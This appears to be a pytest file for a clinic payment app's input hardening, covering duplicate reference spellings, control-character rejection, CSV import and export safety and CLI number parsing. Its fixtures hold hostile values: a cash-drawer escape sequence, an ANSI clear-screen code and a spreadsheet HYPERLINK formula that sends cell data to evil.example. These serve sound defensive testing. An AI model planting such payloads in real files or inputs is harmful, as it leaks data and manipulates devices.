"""Hostile input (issue 9 point 5): one reference key, control characters refused at input and
stripped on output, CSV cells that never run as formulas. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select, update

from pos_app.adapters import tables as t
from pos_app.cli.main import main
from pos_app.domain.errors import BadInput, Refused
from pos_app.services import auth, facility, patients, receipts, refund_requests, reversal
from pos_app.services.imports import InvalidImport, import_csv
from pos_app.services.report_export import to_csv
from pos_app.services.reports import business_date_of, daily_report, facility_zone
from pos_app.services.withdrawal import withdraw
from tests.helpers.books import PASSWORD, new_key
from tests.helpers.money import pay_items, tender, top_up
from tests.helpers.references import references, variants

REFERENCED = ["mobile_money", "card", "insurance"]
HOSTILE = "Zoë\x1bp\x00\x19\xfa\x07"  # ESC p: the cash drawer kick


def _pay_one(books, reference: str, method: str = "mobile_money"):
    (item,) = books.bill("P1", ("CONS", 1))
    return pay_items(books, "P1", [item], tender(method, "1000.00", reference))


@settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data(), typed=references, method=st.sampled_from(REFERENCED))
def test_any_spelling_of_a_used_reference_is_a_duplicate_and_nothing_is_written(
    books, data, typed, method
):
    if not books.count("patients"):
        books.patient("P1")
    reference = f"{new_key()[-8:]}{typed}".upper()  # new in every example
    _pay_one(books, reference, method)
    (item,) = books.bill("P1", ("CONS", 1))
    variant = data.draw(variants(reference))
    before = books.snapshot()
    with pytest.raises(Refused) as refused:
        pay_items(books, "P1", [item], tender(method, "1000.00", variant))
    assert refused.value.code == "duplicate_reference"
    assert books.snapshot() == before


@pytest.mark.parametrize("variant", ["qk71xr", "QK71XR\u200b", "ＱＫ７１ＸＲ", " qk 71 xr\ufeff"])
def test_the_issue_s_spellings_of_a_mobile_money_id_pay_once(books, variant):
    books.patient("P1", balance="1000.00")
    paid = _pay_one(books, "QK71XR")
    before = books.snapshot()
    with pytest.raises(Refused) as refused:
        top_up(books, "P1", "100.00", "mobile_money", variant)
    assert refused.value.code == "duplicate_reference"
    assert paid.receipt_no in refused.value.message
    assert books.snapshot() == before


def test_a_reference_is_unique_per_method_and_kept_as_typed(books):
    books.patient("P1")
    paid = _pay_one(books, "Ab-12\u00a0", "card")
    _pay_one(books, "AB-12", "mobile_money")
    _pay_one(books, "ab-12", "insurance")
    with pytest.raises(Refused):
        _pay_one(books, "ａｂ-１２", "card")
    assert [tender.reference for tender in paid.tenders] == ["Ab-12"]
    with books.app.uow(write=False) as uow:
        keys = uow.execute(
            select(t.tender_references.c.method, t.tender_references.c.reference_key)
        ).all()
    assert sorted(keys) == [("card", "ab-12"), ("insurance", "ab-12"), ("mobile_money", "ab-12")]


def test_a_card_deposit_s_reference_is_used_once_too(books):
    books.patient("P1")
    top_up(books, "P1", "100.00", "card", "AUTH-991")
    with pytest.raises(Refused) as refused:
        _pay_one(books, "auth-991", "card")
    assert refused.value.code == "duplicate_reference"


@pytest.mark.parametrize("reference", ["\u200b\ufeff", " \u00a0 "])
def test_a_reference_of_only_invisible_characters_is_missing(books, reference):
    books.patient("P1")
    with pytest.raises(BadInput) as refused:
        _pay_one(books, reference)
    assert refused.value.code == "missing_reference"


def _typing(books, what: str, text: str, *, receipt_no: str, item: int) -> None:
    """One service call per place where a name, reason or reference is typed."""
    uow, ws, key = books.app.uow(), "WS01", new_key()
    if what == "patient name":
        patients.add_patient(uow, actor=books.cashier, mrn="P9", name=text)
    elif what == "patient phone":
        patients.add_patient(uow, actor=books.cashier, mrn="P9", name="Ok", phone=text)
    elif what == "reference":
        pay_items(books, "P1", [item], tender("card", "1000.00", text))
    elif what == "reversal reason":
        reversal.reverse_payment(
            uow, actor=books.supervisor, workstation=ws, receipt_no=receipt_no, reason=text, key=key
        )
    elif what == "refund request reason":
        refund_requests.request_refund(
            uow, actor=books.cashier, workstation=ws, receipt_no=receipt_no, reason=text
        )
    elif what == "withdrawal reason":
        withdraw(
            uow,
            actor=books.supervisor,
            workstation=ws,
            mrn="P1",
            amount="10.00",
            reason=text,
            key=key,
        )
    elif what == "reprint reason":
        receipts.get_receipt(
            uow, actor=books.cashier, workstation=ws, receipt_no=receipt_no, reprint_reason=text
        )
    elif what == "facility name":
        facility.set_facility(
            uow, actor=books.admin, workstation=ws, name=text, currency_code="KES", minor_units=2
        )
    else:
        auth.add_user(
            uow,
            actor=books.admin,
            workstation=ws,
            username="newbie",
            role="cashier",
            password="long enough pass",
            full_name=text,
        )


@pytest.mark.parametrize(
    "what",
    [
        "patient name",
        "patient phone",
        "reference",
        "reversal reason",
        "refund request reason",
        "withdrawal reason",
        "reprint reason",
        "facility name",
        "user full name",
    ],
)
def test_control_characters_are_refused_where_text_is_typed_and_nothing_is_written(books, what):
    books.patient("P1", balance="2000.00")
    first, second = books.bill("P1", ("CONS", 1), ("CONS", 1))
    paid = pay_items(books, "P1", [first], tender("wallet", "1000.00"))
    before = books.snapshot()
    with pytest.raises(BadInput) as refused:
        _typing(books, what, f"fine{HOSTILE}", receipt_no=paid.receipt_no, item=second)
    assert refused.value.code == "invalid_text"
    assert books.snapshot() == before
    _typing(books, what, "fine 123", receipt_no=paid.receipt_no, item=second)  # typed clean


def test_an_import_line_with_a_control_character_is_a_finding_and_nothing_is_imported(books):
    before = books.snapshot()
    data = f"mrn,name,phone\nA1,Achieng Otieno,0712\nA2,{HOSTILE},0713\n".encode()
    with pytest.raises(InvalidImport) as refused:
        import_csv(
            books.app.uow(),
            actor=books.admin,
            workstation="WS01",
            kind="patients",
            data=data,
            source="patients.csv",
        )
    assert [f["line"] for f in refused.value.findings] == [3]
    assert "control character" in refused.value.findings[0]["problem"]
    assert books.snapshot() == before


def test_the_daily_csv_neutralises_formulas_and_strips_old_control_characters(books):
    with books.app.uow() as uow:  # a price list written before input was vetted
        uow.execute(
            update(t.services)
            .where(t.services.c.code == "CONS")
            .values(department='=HYPERLINK("http://evil.example/?"&A1,"Click")')
        )
        uow.execute(
            update(t.services)
            .where(t.services.c.code == "LAB")
            .values(department="Lab\x1b[2Joratory")
        )
        uow.commit()
    books.patient("P1", balance="5000.00")
    items = books.bill("P1", ("CONS", 1), ("LAB", 1))
    paid = pay_items(books, "P1", items, tender("wallet", "1500.00"))
    with books.app.uow(write=False) as uow:
        day = business_date_of(uow, datetime.fromisoformat(paid.at), facility_zone(uow))
    report = daily_report(books.app.uow(write=False), actor=books.supervisor, day=day)
    cells = [cell for row in csv.reader(io.StringIO(to_csv(report))) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "Lab[2Joratory" in cells
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
    assert all(cell[1:].replace(".", "").isdigit() for cell in cells if cell[:1] == "-")
    assert not any("\x1b" in cell for cell in cells)
    assert report.totals["payments"] == Decimal("1500.00")


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["pay", "P1", "--items", "٩", "--tender", "wallet:1000"], "unknown_item"),
        (
            ["pay", "P1", "--items", "99999999999999999999", "--tender", "wallet:1000"],
            "unknown_item",
        ),
        (["pay", "P1", "--items", "1_0", "--tender", "wallet:1000"], "unknown_item"),
        (["patient", "search", "P", "--limit", "١٠"], "invalid_number"),
        (["payment", "approve", str(2**63)], "invalid_number"),
        (["shift", "close", "--denominations", "1000x٣"], "invalid_count"),
        (["shift", "close", "--card", "100:99999999999999999999"], "invalid_count"),
        (["wallet", "deposit", "P1", "0,5", "--method", "cash"], "invalid_amount"),
        (
            ["wallet", "deposit", "P1", "100", "--method", "card", "--reference", "A\x1bp"],
            "invalid_text",
        ),
    ],
)
def test_hostile_numbers_on_the_command_line_exit_2_with_a_code_and_no_traceback(
    books, monkeypatch, capsys, tmp_path, args, code
):
    books.patient("P1")
    monkeypatch.setenv("CARETILL_USER", "supervisor")
    monkeypatch.setenv("CARETILL_PASSWORD", PASSWORD)
    monkeypatch.setenv("CARETILL_CONFIG", str(tmp_path / "config.json"))
    db = books.app.settings.db_url
    before = books.snapshot()
    assert main([*args, "--db", db, "--json"]) == 2
    out, err = capsys.readouterr()
    assert json.loads(out)["error"]["code"] == code and "Traceback" not in out + err
    assert main([*args, "--db", db]) == 2
    out, err = capsys.readouterr()
    assert err.startswith("caretill: ") and err.count("\n") == 1 and "Traceback" not in err
    assert "\x1b" not in err
    after = books.snapshot()  # signing in leaves its session and audit rows, no money moves
    assert all(after[name] == before[name] for name in ("payments", "deposits", "receipts"))
